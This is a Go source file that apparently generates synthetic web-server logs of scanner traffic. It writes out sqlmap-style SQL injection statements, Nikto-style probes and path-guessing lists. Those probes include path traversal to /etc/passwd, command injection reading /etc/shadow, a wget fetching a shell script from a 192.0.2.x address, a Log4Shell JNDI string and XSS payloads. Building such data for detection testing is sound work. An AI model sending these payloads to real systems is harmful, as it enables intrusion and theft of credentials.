package corpus

import (
	"fmt"
	"net/url"
	"strings"
)

// Scanner returns request number i of scanners, as a day of them looks like: a program that tries statements on one parameter, one that asks
// for what vulnerable servers have, and one that guesses paths from a list. Each visits many hosts with the same list, and repeats one request
// in eight, because it got no answer in time.
func Scanner(i uint64) Record {
	if i%8 == 7 {
		r := Scanner(i - 1 - i/8%6)
		return r.Again(i)
	}
	d := &dice{state: i*0xd1342543de82ef95 + 3}
	d.next()
	e := &exchange{method: "GET", host: fmt.Sprintf("%s.%s", d.pick([]string{"shop", "www", "api", "app", "intranet"}), d.pick(domains))}
	switch i % 3 {
	case 0:
		d.injection(e)
	case 1:
		d.vulnerability(e)
	default:
		d.guess(e)
	}
	return e.record(d, "scanner")
}

// injection tries statements on a parameter, those of each technique with other numbers and names.
func (d *dice) injection(e *exchange) {
	agent := "sqlmap/1.8.5#stable (https://sqlmap.org)"
	if d.oneIn(3) { // --random-agent
		agent = d.browser()
	}
	e.add("User-Agent", agent)
	e.add("Accept", "*/*")
	e.add("Accept-Encoding", "gzip,deflate")
	e.add("Connection", "close")
	value := d.digits(2) + d.pick([]string{"", "'", "')", "\"", " "}) + d.statement()
	parameter := d.pick([]string{"id", "cat", "q", "user", "page"})
	if d.oneIn(4) {
		e.method, e.target = "POST", "/search"
		e.send("application/x-www-form-urlencoded; charset=utf-8", parameter+"="+escaped(value))
	} else {
		e.target = "/" + d.pick(categories) + "/list?" + parameter + "=" + escaped(value) + "&sort=price"
	}
	e.respond(200, "text/html; charset=utf-8", d.page("Search", "<p>No results</p>"))
}

func escaped(value string) string { return strings.ReplaceAll(url.QueryEscape(value), "+", "%20") }

func (d *dice) statement() string {
	n, column := d.digits(4), d.pick([]string{"schema_name", "table_name", "column_name", "password", "email"})
	mark := "0x71" + d.hex(6) + "71"
	switch d.below(9) {
	case 0:
		return fmt.Sprintf(" AND %s=%s", n, n)
	case 1:
		return fmt.Sprintf(" AND %s=%s AND '%s'='%s", n, d.digits(4), d.draw("abcdEFGH", 4), d.draw("abcdEFGH", 4))
	case 2:
		return " ORDER BY " + fmt.Sprint(d.between(1, 40)) + "-- -"
	case 3:
		return " UNION ALL SELECT " + strings.Repeat("NULL,", d.between(0, 12)) + "CONCAT(" + mark + ",IFNULL(CAST(" + column + " AS NCHAR),0x20)," + mark + ")-- -"
	case 4:
		return fmt.Sprintf(" AND (SELECT %s FROM (SELECT(SLEEP(%d)))%s)", n, d.between(1, 9), d.draw("abcdEFGH", 4))
	case 5:
		return fmt.Sprintf(" AND ORD(MID((SELECT IFNULL(CAST(%s AS NCHAR),0x20) FROM INFORMATION_SCHEMA.SCHEMATA LIMIT %d,1),%d,1))>%d", column, d.below(20), d.between(1, 30), d.between(32, 126))
	case 6:
		return fmt.Sprintf(";SELECT PG_SLEEP(%d)--", d.between(1, 9))
	case 7:
		return fmt.Sprintf(" AND EXTRACTVALUE(%s,CONCAT(0x5c,%s,(SELECT (ELT(%s=%s,1))),%s))", n, mark, n, n, mark)
	default:
		return fmt.Sprintf(" AND %s=(SELECT UPPER(XMLType(CHR(60)||CHR(58)||CHR(%d)||CHR(113)||(SELECT (CASE WHEN (%s=%s) THEN 1 ELSE 0 END) FROM DUAL)||CHR(62))) FROM DUAL)", n, d.between(97, 122), n, n)
	}
}

// vulnerability asks for what vulnerable servers have.
func (d *dice) vulnerability(e *exchange) {
	agent := fmt.Sprintf("Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:%06d)", d.between(1, 7000))
	if d.oneIn(3) {
		agent = d.browser()
	}
	e.add("User-Agent", agent)
	e.add("Connection", "Keep-Alive")
	tested := d.pick(vulnerable)
	tested = strings.NewReplacer("{n}", d.digits(3), "{w}", d.draw("abcdefghijklmnopqrstuvwxyz", 8)).Replace(tested)
	e.target = tested
	e.respond(404, "text/html", "<html><body><h1>Not Found</h1></body></html>")
}

// vulnerable are requests that look for holes; {n} is a number and {w} a word.
var vulnerable = []string{
	"/cgi-bin/test-cgi?/*", "/cgi-bin/..%252f..%252f..%252f..%252fetc/passwd", "/index.php?page=../../../../../../etc/passwd%00", "/scripts/..%c0%af../winnt/system32/cmd.exe?/c+dir",
	"/phpinfo.php?GLOBALS[test]=<script>alert({n});</script>", "/<script>alert('{w}')</script>.asp", "/?x=<img%20src=x%20onerror=alert({n})>", "/index.php?option=com_{w}&id=1+union+select+{n}",
	"/.git/HEAD", "/.env", "/.htpasswd", "/.svn/entries", "/WEB-INF/web.xml", "/wp-config.php.bak", "/server-status", "/phpmyadmin/", "/adminer.php", "/admin/config.php", "/backup/{w}.sql", "/db.mdb",
	"/cgi-bin/{w}.cgi?file=|id|", "/login.cgi?cli=aa%20aa%27cat%20/etc/hosts", "/?-s", "/?cmd=cat+/etc/shadow", "/shell?cd+/tmp;wget+http://192.0.2.{n}/{w}.sh", "/solr/admin/cores?wt=json",
	"/actuator/heapdump", "/actuator/env", "/manager/html", "/jenkins/script", "/_cat/indices", "/v1/agent/self", "/api/v1/pods?limit={n}", "/console/?x={n}", "/{w}.php?id=php://filter/convert.base64-encode/resource=config",
	"/?q=${jndi:ldap://192.0.2.{n}/{w}}", "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]={w}", "/include/{w}.inc", "/logs/access.log", "/~root", "/robots.txt", "/{w}.bak", "/test.php", "/info.php",
}

// guess asks for a path of a list.
func (d *dice) guess(e *exchange) {
	e.add("User-Agent", d.pick([]string{"gobuster/3.6", "feroxbuster/2.10.4", "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1)"}))
	e.add("Accept-Encoding", "gzip")
	e.target = "/" + d.pick(guessed) + d.pick([]string{"", "", "", "/", ".php", ".html", ".bak", ".zip", ".old", ".sql", ".txt", "_old", fmt.Sprint(d.between(1, 20))})
	e.respond(404, "text/html", "<html><body><h1>Not Found</h1></body></html>")
}

var guessed = strings.Fields("admin administrator api app archive assets auth backup backups bin blog cache cart cgi config console contact content core css " +
	"dashboard data database db debug default demo dev docs download dump edit email error export files forum home images img include index info " +
	"install internal js lib login logout logs mail main manage manager media members metrics news old panel phpinfo portal private profile public register reports " +
	"root scripts search secret secure server setup shop site sql stage static stats status store support swagger system temp test tmp tools upload uploads user users vendor web webmail wp xml")
